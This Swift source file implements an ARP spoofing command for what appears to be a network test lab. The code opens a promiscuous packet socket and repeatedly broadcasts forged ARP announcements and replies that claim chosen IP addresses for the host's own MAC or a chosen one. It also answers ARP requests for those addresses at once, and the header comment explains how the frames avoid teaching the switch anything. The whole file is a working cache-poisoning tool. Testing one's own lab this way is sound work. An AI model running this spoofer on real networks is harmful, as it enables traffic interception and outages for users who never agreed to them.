// `baton-lab spoof`: a third host on the service LAN that says by ARP that addresses of ours are its own
// (or anybody's: --mac). It says so unasked, to everybody, every --interval milliseconds, and to whoever
// asks, at once. The frames leave with the sender's own Ethernet address, so that the switch learns nothing.

import CLab

/// `spoof --device eth1 --address A… [--mac M] [--interval 10] [--seconds N]`: run in the third host.
func spoof(_ options: Options) throws(LabFailure) {
    let device = try options.required("device")
    let own = try Kernel.mac(ofDevice: device)
    var claimed = own
    if let text = options.text("mac") {
        let bytes = text.split(separator: ":").compactMap { UInt8($0, radix: 16) }
        guard bytes.count == 6 else { throw LabFailure(text: "--mac \(text)", isUsage: true) }
        claimed = MAC(bytes: bytes)
    }
    let addresses = options.all("address").compactMap { IPv4($0) }
    guard !addresses.isEmpty else { throw LabFailure(text: "--address is missing", isUsage: true) }
    let interval = Int64(try options.number("interval", default: 10)) * millisecond
    let end = Kernel.now + Int64(try options.number("seconds", default: 3_600)) * second
    let socket = try Kernel.packetSocket(device: device, ethertype: 0x806, promiscuous: true)
    var counts = (unasked: 0, answers: 0)
    var next = Kernel.now
    while Kernel.now < end, !Kernel.stopRequested {
        for _ in Kernel.wait([socket], until: min(next, end)) {
            while let (bytes, isOutgoing) = Kernel.receiveFrame(on: socket) {
                guard !isOutgoing, let question = ARP(frame: bytes), !question.isReply,
                    addresses.contains(question.target), question.sender != question.target
                else { continue }
                let asker = MAC(bytes: Array(bytes[6..<12]))
                var answer = ARP.announcement(of: question.target, by: claimed)
                answer.isReply = true
                answer.targetMAC = asker
                answer.target = question.sender
                answer.destination = asker
                if Kernel.send(answer.frame(from: own), on: socket) { counts.answers += 1 }
            }
        }
        guard Kernel.now >= next else { continue }
        next = Kernel.now + interval
        for address in addresses {
            var claim = ARP.announcement(of: address, by: claimed)
            if Kernel.send(claim.frame(from: own), on: socket) { counts.unasked += 1 }
            claim.isReply = true
            if Kernel.send(claim.frame(from: own), on: socket) { counts.unasked += 1 }
        }
    }
    print("unasked=\(counts.unasked) answers=\(counts.answers)")
}
